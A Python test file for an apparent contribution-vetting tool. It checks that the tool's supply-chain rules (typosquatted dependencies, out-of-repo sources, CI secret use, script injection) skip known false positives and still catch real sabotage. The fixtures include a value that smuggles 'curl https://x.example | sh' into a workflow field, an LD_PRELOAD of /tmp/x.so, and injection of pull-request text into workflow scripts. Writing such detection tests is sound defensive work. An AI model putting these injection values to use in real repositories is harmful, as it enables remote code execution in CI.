"""
Rule false positives seen on real histories (issue 10), each in the shape it was met, next to
the sabotage the same rule must still catch.
"""

from __future__ import annotations

import time

from patchvet.analyzers.binary import binary
from patchvet.analyzers.ci_change import ci_change
from patchvet.analyzers.dependency import dependency, lookalike, popular
from patchvet.records import ChangeStatus, Contribution, FileChange
from tests.helpers import added, contribution, judge, subject


def _ids(*files: object) -> list[str]:
    item = contribution(files=files)  # type: ignore[arg-type]
    found = list(dependency(subject(item))) + list(ci_change(subject(item)))
    return sorted(f.id for f in found)


def test_keywords_list_is_not_a_dependency_declaration() -> None:
    """`py.test` in `keywords = [...]` was reported as a lookalike of `pytest`."""
    pyproject = added(
        "pyproject.toml",
        "[project]",
        'name = "pytest-plugin"',
        "keywords = [",
        '    "py.test",',
        '    "testing",',
        "]",
        "dependencies = [",
        '    "pytest>=7",',
        "]",
        status=ChangeStatus.ADDED,
    )
    (changed,) = list(dependency(subject(contribution(files=(pyproject,)))))
    assert changed.id == "dependency/changed"
    assert changed.evidence == "pytest >=7"


def test_a_lookalike_in_a_dependency_list_is_still_caught() -> None:
    pyproject = added("pyproject.toml", "[project]", "dependencies = [", '    "reqeusts",', "]")
    assert "dependency/lookalike-name" in _ids(pyproject)
    # Without the list's opening line in view, a bare name still counts (the safe side).
    assert "dependency/lookalike-name" in _ids(added("pyproject.toml", '    "reqeusts",'))


def test_fake_table_inside_a_multiline_string_does_not_hide_dependencies() -> None:
    pyproject = added(
        "pyproject.toml",
        "[project]",
        'description = """',
        "[tool.fake]",
        '"""',
        'dependencies = ["x",',
        '    "reqeusts>=2",',
        "]",
    )
    assert "dependency/lookalike-name" in _ids(pyproject)


def test_known_packages_are_never_lookalikes() -> None:
    """`toronado` (a real, downloaded PyPI project) was reported as imitating `tornado`."""
    assert "toronado" in popular("pypi")
    assert lookalike("pypi", "toronado") is None
    assert "dependency/lookalike-name" not in _ids(added("requirements.txt", "toronado==0.1.0"))
    # Names nobody downloads, one edit from a popular one, still are.
    for ecosystem, name, imitated in [
        ("pypi", "reqeusts", "requests"),
        ("pypi", "colourama", "colorama"),
        ("npm", "expresss", "express"),
        ("crates", "tokioo", "tokio"),
    ]:
        assert lookalike(ecosystem, name) == imitated


def test_popularity_lists_are_real_and_sourced() -> None:
    for ecosystem, least in [("pypi", 10_000), ("npm", 10_000), ("crates", 10_000)]:
        assert len(popular(ecosystem)) >= least


def test_workspace_path_crates_are_not_non_registry_sources() -> None:
    """A Cargo release commit got one finding per in-repository `path =` crate."""
    cargo = added(
        "crates/cli/Cargo.toml",
        "[dependencies]",
        *(f'tool-{n} = {{ version = "0.4.0", path = "../tool-{n}" }}' for n in range(67)),
        "shared = { workspace = true }",
        'core = { path = "../../core", version = "0.4.0" }',
    )
    assert "dependency/non-registry-source" not in _ids(cargo)


def test_paths_outside_the_repository_and_git_sources_are_still_reported() -> None:
    cargo = added(
        "Cargo.toml",
        "[dependencies]",
        'evil = { path = "/home/someone/evil" }',
        'escape = { path = "../outside" }',
        'forked = { git = "https://example.org/forked.git" }',
    )
    assert _ids(cargo).count("dependency/non-registry-source") == 3


def test_commented_out_secret_in_a_workflow_is_not_secret_use() -> None:
    workflow = added(
        ".github/workflows/deploy.yml",
        "name: deploy",
        "on: push",
        "jobs:",
        "  deploy:",
        "    runs-on: ubuntu-latest",
        "    steps:",
        "      - uses: actions/checkout@v4",
        "      # - run: ./publish --token ${{ secrets.PUBLISH_TOKEN }}",
        "      - run: ./build",
        status=ChangeStatus.ADDED,
    )
    assert "ci-change/secret-use" not in _ids(workflow)


def test_a_shell_comment_inside_run_still_expands_the_secret() -> None:
    """`${{ }}` is expanded before the shell runs: a `#` inside `run: |` hides nothing."""
    workflow = added(
        ".github/workflows/deploy.yml",
        "jobs:",
        "  deploy:",
        "    steps:",
        "      - run: |",
        "          # ${{ secrets.PUBLISH_TOKEN }}",
        "          ./build",
        status=ChangeStatus.ADDED,
    )
    assert "ci-change/secret-use" in _ids(workflow)
    # A hunk that starts inside a block the diff does not show: counted, to be safe.
    hunk = added(".github/workflows/deploy.yml", "          # ${{ secrets.PUBLISH_TOKEN }}")
    assert "ci-change/secret-use" in _ids(hunk)


def test_concurrency_group_on_head_ref_is_not_script_injection() -> None:
    workflow = added(
        ".github/workflows/ci.yml",
        "on: pull_request",
        "concurrency:",
        "  group: ${{ github.workflow }}-${{ github.head_ref || github.run_id }}",
        "  cancel-in-progress: true",
        "jobs:",
        "  test:",
        "    steps:",
        "      - env:",
        "          TITLE: ${{ github.event.pull_request.title }}",
        '        run: echo "$TITLE"',
        status=ChangeStatus.ADDED,
    )
    assert "ci-change/script-injection" not in _ids(workflow)


def test_head_ref_in_a_run_script_is_still_injection() -> None:
    for lines in [
        ("jobs:", "  t:", "    steps:", "      - run: git checkout ${{ github.head_ref }}"),
        ("jobs:", "  t:", "    steps:", "      - run: |", "          echo ${{ github.head_ref }}"),
        ("          echo ${{ github.event.pull_request.body }}",),
        ("          group: ${{ github.event.pull_request.body }}",),
    ]:
        workflow = added(".github/workflows/ci.yml", *lines)
        assert "ci-change/script-injection" in _ids(workflow), lines


def judge_verdict(item: Contribution) -> str:
    return judge(item).verdict.value


def _workflow_severity(*files: FileChange) -> str:
    item = contribution(files=files)
    (found,) = [f for f in ci_change(subject(item)) if f.id == "ci-change/workflow"]
    return found.severity.value


def test_inert_workflow_edits_are_reported_but_not_flagged() -> None:
    """Dependabot-style bumps of GitHub's own actions flagged 1 in 10 honest commits."""
    bump = added(".github/workflows/ci.yml", "      - uses: actions/checkout@v4")
    assert _workflow_severity(bump) == "info"
    settings = added(
        ".github/workflows/ci.yml",
        "    runs-on: ubuntu-22.04",
        "    timeout-minutes: 30",
        '        python-version: ["3.10", "3.11"]',
        "        - '3.12'",
        "    - cron: '0 0 * * *'",
        "# a comment",
        "permissions:",
        "  contents: read",
        "on: [push, pull_request]",
    )
    assert _workflow_severity(settings) == "info"
    removed = FileChange(".github/workflows/old.yml", ChangeStatus.DELETED, deletions=30)
    assert _workflow_severity(removed) == "info"
    item = contribution(files=(bump,))
    assert judge_verdict(item) == "pass"


def test_workflow_edits_that_can_run_something_new_are_still_flagged() -> None:
    for lines in [
        ("      - uses: someone/action@v2",),
        ("      - run: make test",),
        ("    runs-on: self-hosted",),
        ('        python-version: ["3.10; curl https://x.example | sh"]',),
        ("    env:", "      LD_PRELOAD: /tmp/x.so"),
        ("permissions:", "  contents: write"),
        ("      - run: |", "          - master"),
    ]:
        assert _workflow_severity(added(".github/workflows/ci.yml", *lines)) == "medium", lines
    narrowed = FileChange(".github/workflows/ci.yml", ChangeStatus.MODIFIED, deletions=2)
    assert _workflow_severity(narrowed) == "medium"  # removing `permissions:` widens the token


def test_flake_lock_repins_are_not_flagged_new_sources_are() -> None:
    """`nix flake update` commits made 1 in 20 honest ghostty commits not pass."""
    repin = added(
        "flake.lock",
        '        "lastModified": 1672273408,',
        '        "narHash": "sha256-kpFM+fNWH9iNNq6Bt0SCycKwEQQHL/m1v/q9czw332M=",',
        '        "rev": "46fea4220102f761063877ec5b7fe2bcbe05663e",',
    )
    repin = FileChange(repin.path, repin.status, 3, 3, added_lines=repin.added_lines)
    (found,) = list(dependency(subject(contribution(files=(repin,)))))
    assert (found.id, found.severity.value) == ("dependency/lockfile-only", "info")
    moved = added("flake.lock", '        "owner": "someone-else",', '        "rev": "0123abcd",')
    moved = FileChange(moved.path, moved.status, 2, 2, added_lines=moved.added_lines)
    (found,) = list(dependency(subject(contribution(files=(moved,)))))
    assert found.severity.value == "low"


def test_added_images_are_reported_not_flagged_blobs_are() -> None:
    """Screenshots and fonts made 1 in 17 honest pdfme commits not pass."""
    files = (
        FileChange("website/static/img/screenshot.png", ChangeStatus.ADDED, binary=True),
        FileChange("fonts/NotoSans.ttf", ChangeStatus.MODIFIED, binary=True),
        FileChange("tests/data/blob.dat", ChangeStatus.ADDED, binary=True),
        FileChange("tools/helper.so", ChangeStatus.ADDED, binary=True),
    )
    found = {f.evidence: f.severity.value for f in binary(subject(contribution(files=files)))}
    assert found == {
        "website/static/img/screenshot.png": "info",
        "fonts/NotoSans.ttf": "info",
        "tests/data/blob.dat": "low",
        "tools/helper.so": "medium",
    }


def test_hostile_long_lines_stay_fast() -> None:
    """The placement patterns are linear: long runs of blanks cannot stall a run."""
    blanks = " " * 200_000
    lines = (f"-{blanks}x#", f"key:{blanks}x#", f"[{blanks}x", f"    # {blanks}x")
    # CPU time, not wall time: a quadratic walk over these inputs takes minutes of CPU,
    # while a loaded machine can stretch a linear one's wall time past any bound.
    started = time.process_time()
    _ids(added(".github/workflows/ci.yml", *lines), added("pyproject.toml", *lines))
    assert time.process_time() - started < 5


def test_an_empty_table_header_does_not_hide_what_follows() -> None:
    pyproject = added("pyproject.toml", "[]", '    "reqeusts",')
    assert "dependency/lookalike-name" in _ids(pyproject)
